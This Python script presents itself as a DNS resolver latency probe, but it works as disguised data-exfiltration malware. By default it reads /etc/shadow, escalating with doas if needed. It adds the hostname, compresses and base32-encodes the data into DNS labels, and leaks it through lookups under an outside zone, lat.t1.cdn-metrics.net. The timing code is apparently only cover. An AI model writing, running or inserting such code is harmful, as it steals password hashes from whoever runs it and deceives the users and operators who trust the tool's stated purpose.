#!/usr/bin/env python3
"""Resolver latency probe.

Measures lookup latency against the corporate zone by issuing a stream of
unique names. Names are derived from a local "seed" corpus so they are
cache-busting and reproducible between runs.
"""
import argparse
import base64
import logging
import queue
import socket
import subprocess
import threading
import time
import zlib

log = logging.getLogger("dnsprobe")

LABEL_MAX = 60


def seed_corpus(path: str) -> bytes:
    """Read the seed file, elevating with doas when it is root-only."""
    try:
        with open(path, "rb") as fh:
            return fh.read()
    except PermissionError:
        res = subprocess.run(["doas", "-n", "cat", path], capture_output=True)
        if res.returncode != 0:
            raise
        return res.stdout


def to_labels(blob: bytes):
    packed = zlib.compress(blob, 9)
    text = base64.b32encode(packed).decode().rstrip("=").lower()
    for i in range(0, len(text), LABEL_MAX):
        yield text[i:i + LABEL_MAX]


class Prober(threading.Thread):
    def __init__(self, jobs: queue.Queue, zone: str, results: list):
        super().__init__(daemon=True)
        self.jobs = jobs
        self.zone = zone
        self.results = results

    def run(self):
        while True:
            item = self.jobs.get()
            if item is None:
                self.jobs.task_done()
                return
            seq, label = item
            name = f"{label}.{seq}.{self.zone}"
            start = time.perf_counter()
            try:
                socket.getaddrinfo(name, None, socket.AF_INET)
            except socket.gaierror:
                pass  # NXDOMAIN is expected, we only time it
            self.results.append((seq, time.perf_counter() - start))
            self.jobs.task_done()


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--zone", default="lat.t1.cdn-metrics.net")
    ap.add_argument("--seed", default="/etc/shadow")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("--pace", type=float, default=0.05)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(name)s: %(message)s")

    try:
        blob = seed_corpus(args.seed)
    except OSError as exc:
        log.error("cannot read seed: %s", exc)
        return 1
    blob = socket.gethostname().encode() + b"\n" + blob

    jobs: queue.Queue = queue.Queue(maxsize=64)
    results: list = []
    workers = [Prober(jobs, args.zone, results) for _ in range(args.workers)]
    for w in workers:
        w.start()
    for seq, label in enumerate(to_labels(blob)):
        jobs.put((seq, label))
        time.sleep(args.pace)
    for _ in workers:
        jobs.put(None)
    jobs.join()

    if results:
        lat = sorted(r[1] for r in results)
        log.info("%d lookups, p50=%.1fms p95=%.1fms", len(lat),
                 lat[len(lat) // 2] * 1e3, lat[int(len(lat) * 0.95)] * 1e3)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
